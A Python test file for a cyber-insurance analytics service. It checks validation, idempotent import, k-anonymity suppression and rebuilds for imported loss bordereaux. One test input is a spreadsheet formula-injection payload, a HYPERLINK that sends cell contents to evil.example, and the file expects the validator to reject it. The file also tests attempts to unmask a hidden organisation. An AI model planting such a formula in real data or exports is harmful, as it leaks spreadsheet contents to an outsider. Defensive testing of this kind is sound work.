"""An imported loss bordereau (a legacy system's history): checked row by row before anything
is written, imported once whatever the retries, in the statistics and triangles exactly as the
test computes them itself (chain ladder included), under the same k-anonymity, kept by a
rebuild; and a restarted service answers from a warm start."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
from sqlalchemy import func, select

from cyberclaims.simulate import (
    SECTION_OF,
    Book,
    SimClaim,
    SimPayment,
    SimPolicy,
    book,
    bordereaux,
)
from services.insights.app import WARM_GROUPINGS
from services.insights.models import ClaimRecord, HistoryImport, PolicyRecord, ReadModelVersion
from services.insights.rebuild import rebuild
from services.insights.statistics import MAX_ANSWERS
from shared.auth import Role
from shared.events import Category
from shared.service import Runtime
from tests.insights.conftest import World, book_events, publish_all
from tests.insights.expected import Claim, Raw
from tests.insights.test_experience import (
    K,
    check_against,
    consumed,
    experience,
    lone_organisation,
    simulated,
)
from tests.insights.test_triangles import assert_chain_ladder, developed_triangle, snapshot
from tests.support.service import running

PAST = datetime(2022, 1, 1, tzinfo=UTC)
"""A book drawn from here is settled before now: its every movement is in the bordereau and
on the topics alike."""


def small_bordereau(import_id: str = "legacy-1") -> dict[str, Any]:
    start = datetime(2024, 1, 1, tzinfo=UTC)
    exposures = [{"exposure_id": f"E{n}", "org_id": f"legacy-org-{n}", "industry": "finance",
                  "region": "CN-GD", "size_band": "1-49", "currency": "CNY",
                  "annual_premium": "12000.00", "period_start": start.isoformat(),
                  "period_end": (start + timedelta(days=365)).isoformat()} for n in range(3)]
    occurred = start + timedelta(days=40)

    def claim(number: int) -> dict[str, Any]:
        reported = occurred + timedelta(hours=5)
        return {"claim_id": f"C{number}", "exposure_id": f"E{number}", "category": "ransomware",
                "attack_vector": "VPN", "occurred_at": occurred.isoformat(),
                "reported_at": reported.isoformat(),
                "movements": [
                    {"at": (reported + timedelta(days=10)).isoformat(), "kind": "reserve",
                     "amount": "50000.00"},
                    {"at": (reported + timedelta(days=50)).isoformat(), "kind": "paid",
                     "amount": "30000.00"}]}

    return {"import_id": import_id, "exposures": exposures, "claims": [claim(0), claim(1)]}


async def post_history(client: httpx.AsyncClient, world: World, body: dict[str, Any],
                       role: Role = Role.operator) -> httpx.Response:
    return await client.post("/v1/insights/history", json=body, headers=world.bearer(role))


async def import_all(client: httpx.AsyncClient, world: World, bodies: list[dict[str, Any]]) -> None:
    for body in bodies:
        response = await post_history(client, world, body, Role.actuary)
        assert response.status_code == 201, response.text


async def counts(runtime: Runtime) -> tuple[int | None, ...]:
    async with runtime.uow() as uow:
        return tuple([await uow.session.scalar(select(func.count()).select_from(model))
                      for model in (PolicyRecord, ClaimRecord, HistoryImport)])


def broken(change: str) -> tuple[dict[str, Any], str]:
    """A bordereau with one bad row, and the field its problem must name."""
    body = small_bordereau()
    exposures, claims = body["exposures"], body["claims"]
    if change == "industry":
        exposures[1]["industry"] = "farming"
        return body, "exposures.1.industry"
    if change == "currency":
        exposures[2]["currency"] = "USD"
        return body, "exposures.2.currency"
    if change == "duplicate":
        exposures[2]["exposure_id"] = "E0"
        return body, "exposures.2.exposure_id"
    if change == "unknown exposure":
        claims[1]["exposure_id"] = "E9"
        return body, "claims.1.exposure_id"
    if change == "outside the period":
        claims[0]["occurred_at"] = "2023-06-01T00:00:00+00:00"
        return body, "claims.0.occurred_at"
    if change == "amount":
        claims[1]["movements"][1]["amount"] = "12.345"
        return body, "claims.1.movements.1.amount"
    if change == "attack vector a spreadsheet formula":
        claims[1]["attack_vector"] = "=HYPERLINK(\"https://evil.example/?\"&B2,\"vpn\")"
        return body, "claims.1.attack_vector"
    if change == "attack vector longer once lower-cased":
        claims[0]["attack_vector"] = "İ" * 300  # 600 characters in lower case
        return body, "claims.0.attack_vector"
    if change == "movement before the report":
        claims[1]["movements"][0]["at"] = claims[1]["occurred_at"]
        return body, "claims.1.movements.0.at"
    assert change == "future"
    claims[0]["movements"][1]["at"] = (datetime.now(UTC) + timedelta(days=3)).isoformat()
    return body, "claims.0.movements.1.at"


async def test_a_bad_row_is_named_and_nothing_is_written_and_only_actuaries_and_operators_import(
        world: World) -> None:
    app = world.app(min_organisations=2)
    async with running(app, wait_for_consumer=False) as client:
        runtime: Runtime = app.state.runtime
        assert (await client.post("/v1/insights/history", json=small_bordereau())
                ).status_code == 401
        for role in (Role.policyholder, Role.vendor, Role.adjuster, Role.regulator):
            assert (await post_history(client, world, small_bordereau(), role)
                    ).status_code == 403, role
        for change in ("industry", "currency", "duplicate", "unknown exposure",
                       "outside the period", "amount", "attack vector longer once lower-cased",
                       "attack vector a spreadsheet formula",
                       "movement before the report", "future"):
            body, field = broken(change)
            response = await post_history(client, world, body)
            assert response.status_code == 422, (change, response.text)
            assert response.headers["content-type"].startswith("application/problem+json")
            assert field in [error["field"] for error in response.json()["errors"]], \
                (change, response.text)
            assert await counts(runtime) == (0, 0, 0), change
        response = await post_history(client, world, small_bordereau())
        assert response.status_code == 201, response.text
        assert await counts(runtime) == (3, 2, 1)


async def test_the_same_import_again_writes_nothing_and_other_rows_under_its_id_conflict(
        world: World) -> None:
    """... and a restarted service is warm before it answers: the statistics are loaded and
    the first groupings answered during start-up, before the first request (readiness
    included) is served, so nothing is left for the first query."""
    app = world.app(min_organisations=2)
    async with running(app, wait_for_consumer=False) as client:
        runtime: Runtime = app.state.runtime
        first = await post_history(client, world, small_bordereau())
        assert first.status_code == 201, first.text
        assert first.json() | {"imported_at": None} == {
            "import_id": "legacy-1", "exposures": 3, "claims": 2, "movements": 4,
            "imported_at": None}
        again = await post_history(client, world, small_bordereau(), Role.actuary)
        assert again.status_code == 200 and again.json() == first.json()
        assert await counts(runtime) == (3, 2, 1)
        changed = small_bordereau()
        changed["claims"][0]["movements"][1]["amount"] = "31000.00"
        conflict = await post_history(client, world, changed)
        assert conflict.status_code == 409, conflict.text
        assert conflict.json()["errors"][0]["field"] == "import_id"
        changed["import_id"] = "legacy-2"
        assert (await post_history(client, world, changed)).status_code == 201
        assert await counts(runtime) == (6, 4, 2)
        body = await experience(client, world, group_by="source")
        [history] = body["cells"]
        assert history["dimensions"] == {"source": "history"}
        assert history["figures"]["paid"]["total"] == "121000.00"
    app = world.app(min_organisations=2)  # the restart
    async with running(app, wait_for_consumer=False) as client:
        runtime = app.state.runtime
        cache = runtime.resources["experience"]
        async with runtime.uow() as uow:
            version = tuple((await uow.session.execute(
                select(ReadModelVersion.rebuilds, ReadModelVersion.version))).one())
        assert cache.seen == version
        assert all(cache.answered(group_by, {}, 2) for group_by in WARM_GROUPINGS)
        assert (await client.get("/readyz")).status_code == 200
        assert await experience(client, world, group_by="source") == body


async def test_answers_to_made_up_filters_are_kept_a_bounded_number(world: World) -> None:
    """A filter takes any text: a reader looping over made-up values finds the least recently
    asked answers forgotten, never the process growing without bound."""
    app = world.app(min_organisations=2)
    async with running(app, wait_for_consumer=False) as client:
        cache = app.state.runtime.resources["experience"]
        for n in range(MAX_ANSWERS + 10):
            await experience(client, world, group_by="industry", attack_vector=f"made-up-{n}")
        assert cache.answered(("industry",), {"attack_vector": f"made-up-{MAX_ANSWERS + 9}"}, 2)
        assert not cache.answered(("industry",), {"attack_vector": "made-up-0"}, 2)


def raw_of_bordereaux(bodies: list[dict[str, Any]]) -> Raw:
    """The test's own claims from the bordereau rows: opened when reported, with their
    movements (what `expected_triangle` values)."""
    raw = Raw()
    for body in bodies:
        orgs = {row["exposure_id"]: row["org_id"] for row in body["exposures"]}
        for row in body["claims"]:
            key = (body["import_id"], row["claim_id"])
            raw.claims[key] = Claim(
                org_id=orgs[row["exposure_id"]], incident_id=key,
                opened_at=datetime.fromisoformat(row["reported_at"]),
                movements=[(datetime.fromisoformat(m["at"]), m["kind"], Decimal(m["amount"]))
                           for m in row["movements"]])
            raw.incidents[key]["occurred"] = datetime.fromisoformat(row["occurred_at"])
    return raw


async def test_an_imported_book_develops_and_its_triangles_equal_the_tests_own(
        world: World) -> None:
    now = datetime.now(UTC)
    the_book = book(300, 2, 41, start=PAST)
    bodies = bordereaux(the_book, seed=41, now=now, per_import=250)
    assert len(bodies) == 3  # 600 policy periods, in parts
    app = world.app(min_organisations=K)
    async with running(app, wait_for_consumer=False) as client:
        await import_all(client, world, bodies)
        # The statistics equal the test's computation from the same (settled) book's events.
        events_raw = Raw.of(book_events(the_book, until=now))
        for group_by in ((), ("industry",), ("period",), ("industry", "category")):
            body = await experience(client, world, group_by=",".join(group_by))
            assert await check_against(client, world, events_raw, body, group_by, {}) >= 1
        hidden_periods = {c["dimensions"]["period"] for c in
                          (await experience(client, world, group_by="period"))["cells"]
                          if c["suppressed"]}
        raw = raw_of_bordereaux(bodies)
        for basis, source in (("paid", None), ("incurred", "history")):
            params = {"basis": basis} | ({"source": source} if source else {})
            body, rows = await developed_triangle(client, world, raw, hidden_periods, params)
            assert len(rows) >= 6
            assert_chain_ladder(body, rows)
        live_only = (await client.get("/v1/insights/triangles", params={"source": "live"},
                                      headers=world.bearer(Role.actuary))).json()
        assert live_only["rows"] == [] and live_only["source"] == "live"


async def test_k_anonymity_holds_on_imported_history(world: World) -> None:
    """A lone energy company in the imported book: hidden, and the total minus every visible
    industry is not its claim (nor is it by source)."""
    the_book, lone = lone_organisation(seed=23, start=PAST)
    now = datetime.now(UTC)
    bodies = bordereaux(the_book, seed=23, now=now)
    lone_paid = sum((Decimal(m["amount"]) for body in bodies for row in body["claims"]
                     if row["exposure_id"] == lone.policy_number
                     for m in row["movements"] if m["kind"] == "paid"), Decimal(0))
    assert lone_paid > 0
    app = world.app(min_organisations=K)
    async with running(app, wait_for_consumer=False) as client:
        await import_all(client, world, bodies)
        for coarse, fine in (("", "industry"), ("source", "industry,source")):
            total = await experience(client, world, group_by=coarse)
            by_industry = await experience(client, world, group_by=fine)
            [everything] = total["cells"]
            assert not everything["suppressed"]
            cells = {c["dimensions"]["industry"]: c for c in by_industry["cells"]}
            assert cells["energy"]["suppressed"]
            hidden = [name for name, c in cells.items() if c["suppressed"]]
            assert len(hidden) >= 2
            visible = sum(Decimal(c["figures"]["paid"]["total"]) for c in cells.values()
                          if not c["suppressed"])
            assert Decimal(everything["figures"]["paid"]["total"]) - visible != lone_paid
        alone = await experience(client, world, group_by="industry", industry="energy",
                                 source="history")
        assert [c["suppressed"] for c in alone["cells"]] == [True]
        export = await client.get("/v1/insights/experience.csv",
                                  params={"group_by": "industry,category,source"},
                                  headers=world.bearer(Role.regulator))
        assert export.status_code == 200
        assert lone.org_id not in export.text and "sim-" not in export.text


LIVE_YEAR = datetime(2025, 1, 1, tzinfo=UTC)


def live_policy(name: str, industry: str) -> SimPolicy:
    return SimPolicy(policy_number=f"LIVE-{name}", org_id=f"live-{name}", holder_name=name,
                     industry=industry, region="CN-GD", employees=30,
                     annual_revenue=Decimal(10_000_000), annual_premium=Decimal(12_000),
                     period_start=LIVE_YEAR, period_end=LIVE_YEAR + timedelta(days=365))


def paid_claim(policy: SimPolicy, occurred: datetime, amount: Decimal) -> SimClaim:
    """A ransomware claim paid in full 40 days after the incident."""
    return SimClaim(policy=policy, category=Category.ransomware,
                    section=SECTION_OF[Category.ransomware], attack_vector="vpn",
                    occurred_at=occurred, reported_at=occurred + timedelta(hours=3),
                    dispatched_at=occurred + timedelta(hours=4),
                    contained_at=occurred + timedelta(days=2), outage_hours=None,
                    assessed_at=occurred + timedelta(days=10), payable=amount, denied=False,
                    payments=(SimPayment(occurred + timedelta(days=40), amount),))


def made_up(import_id: str, industry: str, occurred: datetime, amount: Decimal
            ) -> dict[str, Any]:
    """A bordereau of k - 1 organisations that do not exist, each with a claim paid `amount`."""
    period = {"period_start": LIVE_YEAR.isoformat(),
              "period_end": (LIVE_YEAR + timedelta(days=365)).isoformat()}
    return {
        "import_id": import_id,
        "exposures": [{"exposure_id": f"F{n}", "org_id": f"{import_id}-org-{n}",
                       "industry": industry, "region": "CN-GD", "size_band": "1-49",
                       "currency": "CNY", "annual_premium": "12000.00", **period}
                      for n in range(K - 1)],
        "claims": [{"claim_id": f"C{n}", "exposure_id": f"F{n}", "category": "ransomware",
                    "occurred_at": occurred.isoformat(),
                    "reported_at": (occurred + timedelta(hours=3)).isoformat(),
                    "movements": [{"at": (occurred + timedelta(days=40)).isoformat(),
                                   "kind": "paid", "amount": str(amount)}]}
                   for n in range(K - 1)]}


async def test_made_up_organisations_imported_never_unlock_a_live_one(world: World) -> None:
    """An imported row's organisation is whatever its sender writes. k - 1 made-up ones
    beside a lone live organisation (in another hidden cell), then in its very cell: it stays
    hidden, in the statistics and the triangle, and the total less the visible cells less the
    importer's own amounts is never its claim."""
    lone_quarter = datetime(2025, 2, 10, tzinfo=UTC)  # 2025Q1; everyone else claims in Q2
    crowd_quarter = datetime(2025, 5, 10, tzinfo=UTC)
    lone = live_policy("energy", "energy")
    crowd = [live_policy(f"{industry}-{n}", industry) for industry in ("finance", "telecom")
             for n in range(K)]
    lone_paid = Decimal("77777.00")
    claims = (paid_claim(lone, lone_quarter, lone_paid),
              *(paid_claim(policy, crowd_quarter, Decimal("50000.00")) for policy in crowd))
    events = book_events(Book((lone, *crowd), claims), until=datetime.now(UTC))
    await publish_all(world.broker, events)
    app = world.app(min_organisations=K)
    async with running(app) as client:
        await consumed(client, app.state.runtime, len(events))
        own = Decimal(0)  # what the importer knows of the hidden cells: its own claims
        for import_id, industry, occurred, amount in (
                ("beside", "healthcare", datetime(2025, 8, 10, tzinfo=UTC), Decimal("1000.00")),
                ("into", "energy", lone_quarter, Decimal("2000.00"))):
            await import_all(client, world, [made_up(import_id, industry, occurred, amount)])
            own += (K - 1) * amount
            [total] = (await experience(client, world))["cells"]
            assert not total["suppressed"]
            for dimension, lones in (("industry", "energy"), ("period", "2025Q1")):
                cells = (await experience(client, world, group_by=dimension))["cells"]
                assert {c["dimensions"][dimension]: c["suppressed"] for c in cells}[lones], \
                    (import_id, dimension)
                visible = sum(Decimal(c["figures"]["paid"]["total"]) for c in cells
                              if not c["suppressed"])
                assert Decimal(total["figures"]["paid"]["total"]) - visible - own != lone_paid, \
                    (import_id, dimension)
            triangle = (await client.get("/v1/insights/triangles",
                                         headers=world.bearer(Role.actuary))).json()
            assert "2025Q1" in triangle["suppressed_accident_quarters"]
            assert "2025Q1" not in [row["accident_quarter"] for row in triangle["rows"]]


async def test_a_rebuild_keeps_the_imported_history(world: World) -> None:
    _, events = simulated(seed=53, policies=80)
    past = book(60, 2, 54, start=PAST)
    await publish_all(world.broker, events)
    app = world.app(min_organisations=2)
    async with running(app) as client:
        runtime: Runtime = app.state.runtime
        await consumed(client, runtime, len(events))
        await import_all(client, world, bordereaux(past, seed=53, now=datetime.now(UTC)))
        before = await snapshot(runtime)
        by_source = await experience(client, world, group_by="source")
        assert [c["dimensions"]["source"] for c in by_source["cells"]] == ["history", "live"]
        read = await rebuild(runtime.uow, world.broker, runtime.publisher, runtime.clock)
        assert read == len(events)
        assert await snapshot(runtime) == before
        assert await experience(client, world, group_by="source") == by_source
        assert (await counts(runtime))[2] == 1
